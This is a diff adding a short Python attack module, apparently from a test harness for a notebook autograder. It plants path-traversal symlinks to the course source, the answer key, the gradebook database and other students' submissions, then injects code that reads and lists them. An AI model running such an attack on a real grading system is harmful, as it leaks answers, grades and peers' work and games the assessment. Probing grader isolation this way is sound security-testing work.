@@ -1,0 +1,23 @@
+"""Lays links to the source, the answers, the gradebook and the others' work beside the notebook and reads them from the code."""
+
+from attacks.harness import Link
+
+CODE = """
+import os
+for base in (".", "..", os.environ.get("HOME", "."), os.path.dirname(os.path.abspath("."))):
+    for name in ("source.ipynb", "answers", "gradebook", "others", "week1_attention/source.ipynb"):
+        path = os.path.join(base, name)
+        for read in (lambda: open(path).read(500), lambda: os.listdir(path), lambda: os.readlink(path)):
+            try:
+                print(path, read())
+            except OSError as error:
+                pass
+"""
+
+
+def attack(submission):
+    submission.files["source.ipynb.txt"] = Link("../../../source/week1_attention/attention.ipynb")
+    submission.files["answers"] = Link("../../../answers")
+    submission.files["gradebook"] = Link("../../../gradebook.db")
+    submission.files["others"] = Link("../..")
+    submission.add(CODE)
